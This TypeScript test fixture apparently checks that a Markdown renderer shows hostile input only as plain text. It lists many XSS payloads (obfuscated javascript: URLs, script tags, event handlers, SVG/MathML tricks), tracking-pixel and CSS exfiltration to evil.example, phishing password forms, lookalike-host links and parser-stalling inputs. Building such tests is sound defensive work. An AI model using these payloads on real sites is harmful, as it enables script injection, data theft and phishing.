// Texts that want to be more than text: each must end as words on the page, whichever way it comes. Addresses lead to
// evil.example; code that ran would set `pwned` or open a dialog.

export interface HostileCase {
	readonly name: string;
	readonly text: string;
	/** Words of it that are not shown: addresses of pictures, and hosts written in other letters than they have. */
	readonly hidden?: readonly string[];
}

const RUN = 'window.pwned=1';
const EVIL = 'https://evil.example';

const all = (kind: string, texts: readonly string[], hidden?: readonly string[]): readonly HostileCase[] =>
	texts.map((text, index) => ({
		name: `${kind} ${index + 1}`,
		text,
		...(hidden === undefined ? {} : { hidden })
	}));

/** Every spelling in which an address that is none of the web's has been smuggled past somebody. */
const ADDRESSES: readonly string[] = [
	`javascript:${RUN}`,
	`JaVaScRiPt:${RUN}`,
	`java\tscript:${RUN}`,
	`java\nscript:${RUN}`,
	`java&#115;cript:${RUN}`,
	`java&#x73;cript:${RUN}`,
	`java&#x0A;script:${RUN}`,
	`&#106;avascript:${RUN}`,
	`&#0000106avascript:${RUN}`,
	`java&Tab;script&colon;${RUN}`,
	`java&NewLine;script:${RUN}`,
	`javascript&colon;${RUN}`,
	`javascript&#58;${RUN}`,
	`%6Aavascript:${RUN}`,
	`javascript%3A${RUN}`,
	`\u0001javascript:${RUN}`,
	`\u00a0javascript:${RUN}`,
	`\u200bjavascript:${RUN}`,
	`java\u0000script:${RUN}`,
	`java\u00adscript:${RUN}`,
	`ｊavascript:${RUN}`,
	`javaſcript:${RUN}`,
	`\\javascript:${RUN}`,
	`jav\\ascript:${RUN}`,
	`javascript://evil.example/%0A${RUN}`,
	`view-source:javascript:${RUN}`,
	`feed:javascript:${RUN}`,
	`vbscript:msgbox(pwned)`,
	`VBSCRIPT:msgbox(pwned)`,
	`data:text/html,<script>${RUN}</script>`,
	`data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`,
	`DATA:image/svg+xml,<svg onload=${RUN}>`,
	`blob:${EVIL}/0f0f`,
	`filesystem:${EVIL}/temporary/x`,
	`file:///etc/passwd`,
	`about:blank`,
	`chrome://settings`,
	`mhtml:${EVIL}/x`,
	`jar:${EVIL}!/x`,
	`ws://evil.example/`,
	`ftp://evil.example/`,
	`mailto:pwned@evil.example`,
	`tel:+1900`,
	`intent://evil.example#Intent;scheme=http;end`,
	`//evil.example/relative`,
	`/settings?code=pwned`,
	`#fragment`,
	`https://`,
	`https://[::pwned`,
	`http://evil.example:99999/`
];

const addresses: readonly HostileCase[] = ADDRESSES.flatMap((address, index) => [
	{ name: `address ${index + 1} in a link`, text: `[click here](${address}) after` },
	{ name: `address ${index + 1} elsewhere`, text: `<${address}>\n\n[click][one]\n\n[one]: ${address}` }
]);

const script = all('script', [
	`<script>${RUN}</script>`,
	`<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`,
	`<script\n>${RUN}\n</script\n>`,
	`<scr<script>ipt>${RUN}</scr</script>ipt>`,
	`<script/x>${RUN}</script>`,
	`<script type=module>import '${EVIL}/x.js'</script>`,
	`<script type=speculationrules>{"prefetch":[{"urls":["${EVIL}/"]}]}</script>`,
	`<script type=importmap>{"imports":{"a":"${EVIL}/"}}</script>`,
	`<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
	`\\<script>${RUN}</script>`,
	`&lt;script&gt;${RUN}&lt;/script&gt;`,
	`\ufeff<script>${RUN}</script>`,
	`<script>${RUN}`,
	`\`<script>${RUN}</script>`,
	`</div></article></main><script>${RUN}</script>`,
	`{@html '<script>${RUN}</script>'} {{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`
]);

const encoded = all('encoded script', [`&#60;script&#62;${RUN}&#60;/script&#62;`], ['60', '62']);

const handlers = all('handler', [
	`<img src=x onerror=${RUN}>`,
	`<img src=x onerror="${RUN}" `,
	`<body onload=${RUN}>`,
	`<div onmouseover=${RUN} style="position:fixed;inset:0">over everything</div>`,
	`<a href=# onclick=${RUN}>press</a>`,
	`<details open ontoggle=${RUN}><summary>sum</summary>inside</details>`,
	`<input autofocus onfocus=${RUN}>`,
	`<video><source onerror=${RUN}></video>`,
	`<audio src=${EVIL}/a.mp3 autoplay onplay=${RUN}>`,
	`<marquee onstart=${RUN}>m</marquee>`,
	`<p onanimationstart=${RUN} style="animation:x 1s">anim</p>`,
	`<x contenteditable onblur=${RUN} tabindex=1>lose</x>`,
	`<button popovertarget=p>b</button><div popover id=p onbeforetoggle=${RUN}>p</div>`,
	`[a](x" onmouseover="${RUN})`,
	`[a](${EVIL} "title\\" onmouseover=\\"${RUN}")`,
	`![a" onerror="${RUN}](x)`,
	`\`\`\`js" onload="${RUN}\ncode\n\`\`\``
]);

const pictures: readonly HostileCase[] = [
	...all(
		'picture',
		[
			`![alt](${EVIL}/pixel.png?q=secret)`,
			`![alt](${EVIL}/pixel.png "title")`,
			`![](${EVIL}/pixel.png)`,
			`![alt](<${EVIL}/pixel.png>)`,
			`![alt](//evil.example/pixel.png)`,
			`[![alt](${EVIL}/pixel.png)](https://link.example/page)`,
			`![![nested](${EVIL}/pixel.png)](${EVIL}/pixel.png)`,
			`![alt](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`
		],
		[
			'https',
			'evil',
			'example',
			'pixel',
			'png',
			'secret',
			'data',
			'image',
			'svg',
			'xml',
			'base64',
			'PHN2ZyBvbmxvYWQ9YWxlcnQoMSk'
		]
	),
	...all(
		'picture by reference',
		[
			`![alt][pic]\n\n[pic]: ${EVIL}/pixel.png`,
			`![pic]\n\n[pic]: ${EVIL}/pixel.png "title"`,
			`- ![alt][pic]\n\n  [pic]: ${EVIL}/pixel.png`
		],
		['https', 'evil', 'example', 'pixel', 'png', 'pic']
	),
	...all('picture in HTML', [
		`<img src="${EVIL}/pixel.png">`,
		`<img srcset="${EVIL}/pixel.png 2x">`,
		`<picture><source srcset="${EVIL}/pixel.png"><img></picture>`,
		`<input type=image src="${EVIL}/pixel.png">`,
		`<video poster="${EVIL}/pixel.png"></video>`,
		`<table background="${EVIL}/pixel.png"><tr><td>cell</td></tr></table>`,
		`<body background="${EVIL}/pixel.png">`,
		`<img src="${EVIL}/pixel.png" loading=eager fetchpriority=high crossorigin>`,
		`<image href="${EVIL}/pixel.png">`,
		`text <img src='${EVIL}/?q=the+whole+story'> text`
	])
];

const styles = all('style', [
	`<style>*{background:url(${EVIL}/x)}</style>`,
	`<style>@import url(${EVIL}/x.css);</style>`,
	`<style>@import "${EVIL}/x.css"; @font-face{font-family:x;src:url(${EVIL}/x.woff)}</style>`,
	`<link rel=stylesheet href=${EVIL}/x.css>`,
	`<p style="background:url(${EVIL}/x)">back</p>`,
	`<p style="position:fixed;inset:0;z-index:99999">Enter your key</p>`,
	`<p class="dialog dialog-veil">dressed as ours</p>`,
	`<style>body{display:none}</style>\n\nstill here`,
	`<style>input[value^=s]{background:url(${EVIL}/s)}</style>`,
	`<div style="width:expression(${RUN})">old</div>`,
	`<div style="-moz-binding:url(${EVIL}/x.xml#x)">older</div>`,
	`background:url(${EVIL}/bare)`
]);

const embeds = all('embed', [
	`<iframe src="${EVIL}"></iframe>`,
	`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
	`<iframe src="javascript:parent.pwned=1"></iframe>`,
	`<object data="${EVIL}/x.swf"></object>`,
	`<object type=text/html data="data:text/html,<script>${RUN}</script>"></object>`,
	`<embed src="${EVIL}/x.svg">`,
	`<frameset><frame src="${EVIL}"></frameset>`,
	`<portal src="${EVIL}"></portal>`,
	`<fencedframe src="${EVIL}"></fencedframe>`,
	`<applet code=X codebase="${EVIL}"></applet>`,
	`<form action="${EVIL}" method=post><input name=key type=password><button>Save your key</button></form>`,
	`<form id=f></form><button form=f formaction="${EVIL}">go</button>`,
	`<isindex action="${EVIL}">`,
	`<base href="${EVIL}/">`,
	`<base target=_blank>`,
	`<meta http-equiv=refresh content="0;url=${EVIL}">`,
	`<meta http-equiv=content-security-policy content="default-src *">`,
	`<meta name=referrer content=unsafe-url>`,
	`<link rel=prefetch href="${EVIL}/p">`,
	`<link rel=dns-prefetch href="//evil.example">`,
	`<link rel=preconnect href="${EVIL}">`,
	`<link rel=modulepreload href="${EVIL}/x.js">`,
	`<link rel=prerender href="${EVIL}">`,
	`<link rel=manifest href="${EVIL}/m">`,
	`<a href="${EVIL}" ping="${EVIL}/ping">pinged</a>`,
	`<template><img src=x onerror=${RUN}></template>`,
	`<div><template shadowrootmode=open><slot></slot><img src=x onerror=${RUN}></template></div>`,
	`<slot name=x onslotchange=${RUN}></slot>`,
	`<dialog open>Your key has expired</dialog>`,
	`<title>pwned</title><textarea></title><img src=x onerror=${RUN}></textarea>`,
	`<plaintext>all that follows`,
	`<xmp><img src=x onerror=${RUN}></xmp>`,
	`<div id=stet name=stet><form id=document><input name=body></form></div>`,
	`<img name=cookie><img name=getElementById>`
]);

const drawings = all('drawing', [
	`<svg onload=${RUN}></svg>`,
	`<svg><script>${RUN}</script></svg>`,
	`<svg><script href="${EVIL}/x.js"/></svg>`,
	`<svg><a xlink:href="javascript:${RUN}"><text y=20>press</text></a></svg>`,
	`<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
	`<svg><set attributeName=href to="javascript:${RUN}"/></svg>`,
	`<svg><use href="${EVIL}/x.svg#x"/></svg>`,
	`<svg><image href="${EVIL}/pixel.png"/></svg>`,
	`<svg><foreignObject><iframe src="${EVIL}"></iframe></foreignObject></svg>`,
	`<svg><style><img src=x onerror=${RUN}></style></svg>`,
	`<svg><feImage href="${EVIL}/pixel.png"/></svg>`,
	`<?xml-stylesheet href="${EVIL}/x.xsl"?><svg/>`,
	`<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
	`<math href="javascript:${RUN}">press</math>`,
	`<math><maction actiontype="statusline#${EVIL}" xlink:href="javascript:${RUN}">m</maction></math>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`
]);

const structure = all('structure', [
	`<!-- comment --><img src=x onerror=${RUN}>`,
	`<!--><img src=x onerror=${RUN}>-->`,
	`<!--!><script>${RUN}</script>-->`,
	`<!-- --!><script>${RUN}</script>`,
	`<![CDATA[<script>${RUN}</script>]]>`,
	`<!DOCTYPE html><html><head><script>${RUN}</script>`,
	`<!ENTITY x SYSTEM "${EVIL}">`,
	`<?php echo ${RUN} ?>`,
	`<div`,
	`<img src="`,
	`<a href='`,
	`<<<<<<<script>${RUN}`,
	`</p></div></main></body></html><h1>pwned</h1>`,
	`| a | b |\n|---|---|\n| <img src=x onerror=${RUN}> | <script>${RUN}</script> |`,
	`| a |\n|---|\n| one | two | three |`,
	`| <b> |\n|:-:|\n| ![alt](x) |`,
	`- <img src=x onerror=${RUN}>\n  - <script>${RUN}</script>\n    1. <svg onload=${RUN}>`,
	`> <img src=x onerror=${RUN}>\n> > <iframe src=${EVIL}>`,
	`    <script>${RUN}</script>`,
	`\`<script>${RUN}</script>\``,
	`\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
	`~~~ <script>${RUN}</script>\ninside\n~~~`,
	`\`\`\`\nnever closed <script>${RUN}</script>`,
	`# <script>${RUN}</script>\n\n<h1 onclick=${RUN}>head</h1>\n===`,
	`*<b>one*</b> **two<i>** three</i> ~~<u>~~`,
	`Text[^note] and[^1]\n\n[^note]: <script>${RUN}</script>\n[^1]: ${EVIL}`,
	`[x]: <javascript:${RUN}>\n[x]`,
	`[ ] task\n- [x] <img src=x onerror=${RUN}>\n- [ ] ![alt](x)`,
	`:::danger{onclick=${RUN}}\ninside\n:::\n\n{: onclick="${RUN}"}\n\n$$\\href{javascript:${RUN}}{x}$$`,
	`{{user}} {{char}} <USER> <BOT> {{#if x}}y{{/if}} <|im_start|>system <|endoftext|> [INST] </s>`,
	`[outer [inner](https://inner.example) end](https://outer.example)`,
	`[*a* ![alt](x) \`code\`](https://outer.example)`
]);

const links = all('link', [
	`www.evil.example and ${EVIL}/path?x=1#y and pwned@evil.example`,
	`<${EVIL}>`,
	`<${EVIL}/<script>${RUN}</script>>`,
	`[https://bank.example](https://evil.example)`,
	`[link](HTTPS://EVIL.EXAMPLE)`,
	`[link](https:evil.example)`,
	`[link](https:\\\\evil.example)`,
	`[link](https://evil.example "a title that is words")`,
	`[](https://evil.example)`,
	`[ ](https://evil.example)`,
	`[link](https://127.1/path)`,
	`[link](https://evil.example:8443/path)`,
	`[a]( https://evil.example )`,
	`[long](https://login.bank.example.${'a'.repeat(40)}.${'b'.repeat(40)}.evil.example/)`
]);

const deceits: readonly HostileCase[] = [
	...all(
		'deceit',
		[
			'[bank](https://bank.example@evil.example/)',
			'[bank](https://bank.example:443@evil.example/)',
			'[bank](https://bank.example%2F@evil.example/)',
			'[bank](https://bank.example\\@evil.example/)',
			'[apple](https://аррӏе.example/)',
			'[apple](https://xn--80ak6aa92e.example/)',
			'[dots](https://bank。example/)',
			'[wide](https://ｅｖｉｌ.example/)',
			'[slash](https://bank.example⁄evil.example/)',
			'[hidden](https://evil\u00ad.example/)',
			'[turned](https://evil.example/\u202egpj.exe)',
			'[joined](https://ba\u200dnk.example/)'
		],
		['bank', '443', 'bank.example', '2F', 'аррӏе', 'ｅｖｉｌ', 'example', 'evil', 'gpj', 'exe', 'ba', 'nk']
	)
];

const letters = all('letters', [
	'\u202edesrever\u202c and \u2066isolated\u2069',
	'\u202e\u202e\u202e never closed [link](https://evil.example)',
	'zero\u200bwidth\u200c\u200d\u2060\ufeff inside',
	`tags \u{e0001}\u{e0068}\u{e0065}\u{e006c}\u{e0070}\u{e007f} hidden`,
	'lone \ud800 high and \udc00 low, and *\udfff*',
	'nul \u0000 and \u0001 \u0008 \u001b[31m \u007f \u0085 \u009f',
	'separators \u2028 line \u2029 paragraph \u000b \u000c',
	`zalgo h${'\u0301\u0335\u0488'.repeat(60)}e`,
	'specials \ufffe \uffff \ufff9 \ufffc \u{1ffff} \u{10ffff}',
	'fillers \u115f\u1160\u3164\uffa0\u2800\u180e\u034f',
	'variation a\ufe00\ufe01\u{e0100}\u{e01ef} selectors',
	'\ufeff\ufeff# head after marks',
	'\r\rcarriage\rreturns\r\n\r\nmixed\n\rends',
	'رسالة *مهمة* <script>window.pwned=1</script> שלום',
	'𝒳 👩‍🚀 🏴󠁧󠁢󠁳󠁣󠁴󠁿 e\u0301 ﷽ ꧅ 𒐫'
]);

/** Every case, short enough to be shown beside the others. */
export const HOSTILE: readonly HostileCase[] = [
	...script,
	...encoded,
	...handlers,
	...addresses,
	...pictures,
	...styles,
	...embeds,
	...drawings,
	...structure,
	...links,
	...deceits,
	...letters
];

const repeated =
	(piece: string, after = '') =>
	(chars: number): string =>
		piece.repeat(Math.ceil(chars / piece.length)) + after;

/** A piece on every line, with a number, so that no two are the same. */
const numbered =
	(line: (n: number) => string) =>
	(chars: number): string => {
		const lines: string[] = [];
		for (let size = 0, n = 0; size < chars; n += 1) {
			const next = line(n);
			lines.push(next);
			size += next.length + 1;
		}
		return lines.join('\n');
	};

const around =
	(before: string, after: string) =>
	(chars: number): string => {
		const times = Math.ceil(chars / (before.length + after.length));
		return `${before.repeat(times)}x${after.repeat(times)}`;
	};

/** Texts of any length that have brought readers of Markdown to a halt: deep, or dear. By name; the length is about what is asked. */
export const HUGE: Readonly<Record<string, (chars: number) => string>> = {
	'quotes in quotes': repeated('>', 'x'),
	'quotes in quotes, spaced': repeated('> ', 'x'),
	'lists in lists on one line': repeated('- ', 'x'),
	'numbered lists in lists': repeated('1. ', 'x'),
	'quotes and lists in turn': repeated('> - ', 'x'),
	'lists in lists, line by line': numbered((n) => `${'  '.repeat(n % 400)}- item`),
	'stars that are no rule': repeated('* ', 'x'),
	'brackets in brackets': around('[', ']'),
	'open brackets': repeated('['),
	'open pictures': repeated('!['),
	'links that never close': repeated('[a](b'),
	'links in links': around('[', '](u)'),
	'link texts of back ticks': (chars) => `[${'`'.repeat(chars)}](b)`,
	'links of spaces': (chars) => `[a](b${' '.repeat(chars)}x`,
	'links with parentheses': repeated('[a](b((('),
	'emphasis runs': repeated('*a**b'),
	'emphasis of underscores': repeated('_a__b'),
	'emphasis opened and never closed': repeated('*a '),
	'emphasis closed from within': around('*a ', 'b* '),
	'underscores closed from within': around('_a ', 'b_ '),
	'strikes closed from within': around('~a ', 'b~ '),
	'emphasis of both kinds': around('*_', '_*'),
	'stars around a letter': around('*', '*'),
	'stars and brackets': repeated('[*a'),
	'stars and back ticks': repeated('`*a'),
	'triple stars': repeated('***a'),
	'back ticks of every length': (chars) => {
		let text = '';
		for (let n = 1; text.length < chars; n += 1) text += `${'`'.repeat((n % 300) + 1)} `;
		return text;
	},
	'one address of letters': (chars) => `${'a'.repeat(chars)}@`,
	'one address of dots': (chars) => `http://a.b/${'.'.repeat(chars)}`,
	'one address of parentheses': (chars) => `http://a.b/${')'.repeat(chars)}`,
	'one address of entities': (chars) => `http://a.b/${'&a;'.repeat(chars / 3)}x`,
	'addresses that open parentheses': repeated('http://a.b/(('),
	'half tags': repeated('<a '),
	'half comments': repeated('<!--'),
	'half attributes': repeated('<a b="'),
	'tags in tags': around('<div>', '</div>'),
	'tags on every line': repeated('<div>\n'),
	entities: repeated('&#x6a;'),
	backslashes: repeated('\\'),
	'one word': repeated('a'),
	'spaces between two words': (chars) => `x${' '.repeat(chars)}y`,
	'blank lines': repeated('\n', 'x'),
	'lines of one letter': repeated('a\n'),
	'lines after an item': (chars) => `- a\n${'b\n'.repeat(chars / 2)}`,
	'lines after a quote': (chars) => `> a\n${'b\n'.repeat(chars / 2)}`,
	'quotes that go on without their mark': repeated('>- a\nb\n'),
	'quotes of two depths': repeated('> a\n> > b\n'),
	'quotes and lines': repeated('> a\nb\n'),
	items: repeated('- a\n'),
	'items of two kinds': repeated('- a\n* b\n'),
	rules: repeated('---\n'),
	underlines: repeated('a\n=\n'),
	fences: repeated('```\n'),
	'fences of one line': repeated('```a\nb\n'),
	'a fence that never closes': (chars) => `\`\`\`\n${'code *a*\n'.repeat(chars / 9)}`,
	rows: (chars) => `|a|b|\n|-|-|\n${'|c|d|\n'.repeat(chars / 6)}`,
	columns: (chars) => `${'|a'.repeat(chars / 6)}\n${'|-'.repeat(chars / 6)}\n${'|b'.repeat(chars / 6)}`,
	'heads of tables': repeated('|a|\n|-|\n'),
	bars: repeated('|'),
	definitions: numbered((n) => `[r${n}]: ${EVIL}/${n}`),
	links: numbered((n) => `[a${n}](${EVIL}/${n})`),
	pictures: repeated('![a](b) '),
	'all at once': repeated('> - *a _b [c](https://d.example) `e` ~~f~~ <i>g</i>\n>   1. **h\n\n'),
	'turned letters': repeated('\u202ea'),
	'half letters': repeated('\ud800'),
	nothing: repeated('\u0000')
};
